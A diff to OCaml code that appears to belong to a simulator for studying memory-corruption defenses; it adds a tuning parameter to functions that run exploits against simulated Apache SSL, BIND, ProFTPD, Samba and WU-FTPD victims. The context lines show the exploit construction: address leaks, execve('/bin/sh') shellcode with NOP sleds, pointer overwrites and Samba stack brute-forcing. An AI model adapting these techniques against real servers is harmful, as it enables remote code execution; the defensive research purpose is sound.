@@ -268,8 +268,8 @@ let assert_clean payload =
   assert (not (Shellcode.contains_newline payload));
   payload
 
-let run_apache_session ?defense ?obs () =
-  let s = Runner.start ?defense ?obs (apache_victim ()) in
+let run_apache_session ?defense ?obs ?tune () =
+  let s = Runner.start ?defense ?obs ?tune (apache_victim ()) in
   let buf = Runner.leak_addr (Runner.recv s) in
   let code = Shellcode.execve_bin_sh ~sled:8 ~base:buf () in
   let key = code ^ Guest.filler (64 - String.length code) ^ w buf in
@@ -279,8 +279,8 @@ let run_apache_session ?defense ?obs () =
 
 let run_apache ?defense ?obs () = fst (run_apache_session ?defense ?obs ())
 
-let run_bind_session ?defense ?obs () =
-  let s = Runner.start ?defense ?obs (bind_victim ()) in
+let run_bind_session ?defense ?obs ?tune () =
+  let s = Runner.start ?defense ?obs ?tune (bind_victim ()) in
   Runner.send s "query: victim.example.com\n";
   let buf = Runner.leak_addr (Runner.recv s) in
   let code = Shellcode.execve_bin_sh ~sled:16 ~base:buf () in
@@ -293,8 +293,8 @@ let run_bind_session ?defense ?obs () =
 
 let run_bind ?defense ?obs () = fst (run_bind_session ?defense ?obs ())
 
-let run_proftpd_session ?defense ?obs () =
-  let s = Runner.start ?defense ?obs (proftpd_victim ()) in
+let run_proftpd_session ?defense ?obs ?tune () =
+  let s = Runner.start ?defense ?obs ?tune (proftpd_victim ()) in
   let store = Runner.leak_addr (Runner.recv s) in
   (* 32 newlines expand to exactly the 64 bytes that fill the translation
      buffer; the next 4 translated bytes land on the dispatch pointer. *)
@@ -322,7 +322,7 @@ let samba_buf_from_esp esp =
   (* main pushes ebp, call pushes ret, trans2open pushes ebp: -12; locals 600 *)
   esp - 12 - 600
 
-let run_samba ?defense ?obs ?(max_attempts = 64) ?(jitter_pages = 16) () =
+let run_samba ?defense ?obs ?tune ?(max_attempts = 64) ?(jitter_pages = 16) () =
   let code = Shellcode.execve_bin_sh_pic ~sled:400 () in
   (* "Insider information": the good first guess comes from manual analysis
      of a similar vulnerable system (paper §6.1.2) — model it by reading the
@@ -340,7 +340,7 @@ let run_samba ?defense ?obs ?(max_attempts = 64) ?(jitter_pages = 16) () =
       { outcome = Runner.Hung; attempts = n - 1; detections = !detections; last = None }
     else begin
       let s =
-        Runner.start ?defense ?obs ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
+        Runner.start ?defense ?obs ?tune ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
           (samba_victim ())
       in
       let payload =
@@ -360,8 +360,8 @@ let run_samba ?defense ?obs ?(max_attempts = 64) ?(jitter_pages = 16) () =
 
 (* WU-FTPD: two-stage 7350wurm-style payload; returns the session so the
    response-mode demos can keep talking to the spawned shell. *)
-let run_wuftpd ?defense ?obs ?(commands = [ "id"; "q" ]) () =
-  let s = Runner.start ?defense ?obs (wuftpd_victim ()) in
+let run_wuftpd ?defense ?obs ?tune ?(commands = [ "id"; "q" ]) () =
+  let s = Runner.start ?defense ?obs ?tune (wuftpd_victim ()) in
   let glob = Runner.leak_addr (Runner.recv s) in
   let stage1_base = glob + 68 in
   let stage1 = Shellcode.two_stage_stage1 ~sled:16 ~base:stage1_base () in
@@ -387,21 +387,21 @@ let run_wuftpd ?defense ?obs ?(commands = [ "id"; "q" ]) () =
 (* End-to-end with the final kernel session exposed, so callers can render
    the machine state (cost model, TLB statistics) after the attack. Samba
    only has a session when an attempt concluded decisively. *)
-let run_session ?defense ?obs = function
+let run_session ?defense ?obs ?tune = function
   | Apache_ssl ->
-    let o, s = run_apache_session ?defense ?obs () in
+    let o, s = run_apache_session ?defense ?obs ?tune () in
     (o, Some s)
   | Bind ->
-    let o, s = run_bind_session ?defense ?obs () in
+    let o, s = run_bind_session ?defense ?obs ?tune () in
     (o, Some s)
   | Proftpd ->
-    let o, s = run_proftpd_session ?defense ?obs () in
+    let o, s = run_proftpd_session ?defense ?obs ?tune () in
     (o, Some s)
   | Samba ->
-    let r = run_samba ?defense ?obs () in
+    let r = run_samba ?defense ?obs ?tune () in
     (r.outcome, r.last)
   | Wuftpd ->
-    let o, s = run_wuftpd ?defense ?obs () in
+    let o, s = run_wuftpd ?defense ?obs ?tune () in
     (o, Some s)
 
 let run ?defense ?obs id = fst (run_session ?defense ?obs id)
